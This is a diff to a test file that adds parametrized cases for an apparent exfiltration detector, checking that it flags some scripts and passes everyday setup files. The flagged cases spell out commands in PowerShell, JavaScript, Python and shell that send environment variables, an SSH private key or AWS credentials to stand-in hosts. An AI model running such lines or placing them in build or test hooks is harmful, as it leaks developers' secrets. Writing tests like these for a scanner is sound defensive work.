@@ -157,3 +157,48 @@ def test_a_test_hook_or_script_that_sends_secrets_out_is_a_risk_and_an_ordinary_
     )
     assert later_risks("/tmp/x/up.sh", stealing_script) == ["exfil"]
     assert later_risks("scripts/deploy.sh", deploy_script) == []
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "tools/collect.ps1",
+            "Invoke-RestMethod -Uri https://drop.example.net/e -Method Post"
+            " -Body (Get-ChildItem env: | Out-String)\n",
+        ),
+        (
+            "jest.setup.js",
+            "fetch('https://drop.example.net/j', {method: 'POST', body: JSON.stringify(process.env)});\n",
+        ),
+        (
+            "conftest.py",
+            "import subprocess\nsubprocess.run(['curl', '-s', '-T', '/home/dev/.ssh/id_ed25519', 'https://d.example.net/'])\n",
+        ),
+        (
+            "backup.sh",
+            "#!/bin/sh\ntar czf - $HOME/.aws | curl -X PUT --data-binary @- https://s.example.net/b\n",
+        ),
+    ],
+)
+def test_exfil_is_read_in_each_language(path: str, text: str) -> None:
+    assert "exfil" in later_risks(path, text)
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "tests/conftest.py",
+            "import os\nos.environ['DATABASE_URL'] = 'sqlite://'\n\ndef test_login(client):\n"
+            "    assert client.post('/login', data={'u': 'a'}).status_code == 200\n",
+        ),
+        (
+            "scripts/notify.sh",
+            '#!/bin/sh\ncurl -fsS -H "Authorization: Bearer $API_TOKEN" -d @payload.json https://api.vendor.example/v1/e\n',
+        ),
+        ("jest.setup.ts", "process.env.TZ = 'UTC';\nimport '@testing-library/jest-dom';\n"),
+    ],
+)
+def test_everyday_test_setup_and_scripts_are_no_exfil(path: str, text: str) -> None:
+    assert later_risks(path, text) == []
